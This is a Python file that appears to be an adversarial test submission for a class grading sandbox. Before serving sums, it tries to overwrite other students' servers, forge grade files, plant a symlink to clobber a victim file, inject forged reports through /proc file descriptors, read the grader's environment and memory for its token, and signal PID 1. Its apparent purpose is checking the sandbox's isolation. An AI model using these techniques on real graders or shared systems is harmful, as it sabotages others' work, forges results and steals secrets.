"""A submission that attacks the others and the report before serving like a good one. It
records in DROP/tamper.json what each attempt did ("ok" or the error), then serves sums.

* writes ``../bob/server.py`` next to its own folder, and CLASS/bob/server.py (CLASS: where
  the class's submissions are, given as an argument, as an attacker who guessed it would)
* writes OUT/grades.xml (where the grader's JUnit goes) and plants OUT/grades.csv as a
  symbolic link to VICTIM, so that a netlab writing through it would overwrite VICTIM
* opens every /proc/1/fd/N (in an isolated check, netlab's checker, which holds the channel
  its report goes through) and /proc/PPID/fd/N for writing, and writes a forged report line
* reads /proc/1/environ and /proc/1/mem (the run's token), sends SIGINT and SIGTERM to PID 1

Arguments: PORT DROP CLASS OUT VICTIM (the port first, as the good submissions take it)."""
import json
import os
import signal
import socket
import sys

port = int(sys.argv[1])
drop, klass, out, victim = sys.argv[2:6]
here = os.path.dirname(os.path.abspath(__file__))
tried = {}


def attempt(name, action):
    try:
        action()
        tried[name] = "ok"
    except Exception as exc:  # every failure is the point
        tried[name] = f"{type(exc).__name__}: {exc}"


def write(path, text="pwned\n"):
    with open(path, "w") as f:
        f.write(text)


attempt("sibling", lambda: write(os.path.join(here, "..", "bob", "server.py")))
attempt("class", lambda: write(os.path.join(klass, "bob", "server.py")))
attempt("junit", lambda: write(os.path.join(out, "grades.xml"), "<forged/>"))
attempt("symlink", lambda: os.symlink(victim, os.path.join(out, "grades.csv")))
forged = json.dumps({"event": "report", "token": "0" * 16, "report": {}}) + "\n"
for pid in ("1", str(os.getppid())):
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError as exc:
        tried[f"list /proc/{pid}/fd"] = f"{type(exc).__name__}: {exc}"
        continue
    for fd in fds:
        attempt(f"/proc/{pid}/fd/{fd}", lambda: write(f"/proc/{pid}/fd/{fd}", forged))
attempt("environ", lambda: open("/proc/1/environ", "rb").read())
attempt("mem", lambda: open("/proc/1/mem", "rb").read(1))
attempt("SIGINT 1", lambda: os.kill(1, signal.SIGINT))
attempt("SIGTERM 1", lambda: os.kill(1, signal.SIGTERM))
write(os.path.join(drop, "tamper.json"), json.dumps(tried))

server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("", port))
server.listen(16)
while True:
    conn, _ = server.accept()
    with conn:
        data = conn.recv(1024)
        a, b = data.split()
        conn.sendall(str(int(a) + int(b)).encode() + b"\n")
